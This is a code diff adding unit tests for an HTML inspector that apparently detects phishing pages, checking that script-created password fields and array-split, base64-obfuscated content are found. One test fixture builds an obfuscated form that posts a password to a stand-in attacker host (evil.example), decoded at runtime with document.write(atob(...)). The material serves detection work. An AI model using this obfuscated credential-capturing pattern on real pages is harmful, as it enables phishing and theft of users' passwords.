@@ -418,6 +418,45 @@ TEST(InspectHtml, LinksAreCollectedOnceResolvedAgainstBase) {
   EXPECT_TRUE(f.sinks.empty());
 }
 
+TEST(InspectHtml, ScriptMadePasswordFieldsCount) {
+  for (const char* script :
+       {"var i=document.createElement('input');i.type = 'password';",
+        "el.setAttribute(\"type\", \"password\");",
+        "$('<input>', {type: 'password', name: 'p'}).appendTo(f);",
+        "make({\"TYPE\":\"password\"})"}) {
+    const HtmlFindings f = InspectHtml(
+        absl::StrCat("<div id=f></div><script>", script, "</script>"));
+    ASSERT_TRUE(f.password_field.has_value()) << script;
+    EXPECT_EQ(f.password_field->evidence,
+              "a script makes an input of type password");
+  }
+  for (const char* script :
+       {"var hint = 'password';", "subtype = 'password'",
+        "alert('Forgot your password?')", "x.type = 'passwords'"}) {
+    const HtmlFindings f =
+        InspectHtml(absl::StrCat("<script>", script, "</script>"));
+    EXPECT_FALSE(f.password_field.has_value()) << script;
+  }
+}
+
+TEST(InspectHtml, ArraysJoinedBeforeDecodingAreDecoded) {
+  const std::string form =
+      "<form method=post action='https://evil.example/p.php'>"
+      "<input type=password name=pw></form>";
+  const std::string b64 = absl::Base64Escape(form);
+  for (const std::string& script :
+       {absl::StrCat("var p=['", b64.substr(0, 20), "','", b64.substr(20),
+                     "']; document.write(atob(p.join('')));"),
+        absl::StrCat("document.write(atob(['", b64.substr(0, 10), "', '",
+                     b64.substr(10), "'].join('')));")}) {
+    const HtmlFindings f = InspectHtml("<script>" + script + "</script>");
+    ASSERT_TRUE(f.password_field.has_value()) << script;
+    ASSERT_EQ(f.sinks.size(), 1u);
+    EXPECT_EQ(f.sinks[0].url, "https://evil.example/p.php");
+    EXPECT_EQ(f.sinks[0].depth, 1);
+  }
+}
+
 TEST(MayBeActive, PlainNewslettersAreNotAndEveryActivePageIs) {
   EXPECT_FALSE(MayBeActive(
       "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html\">"
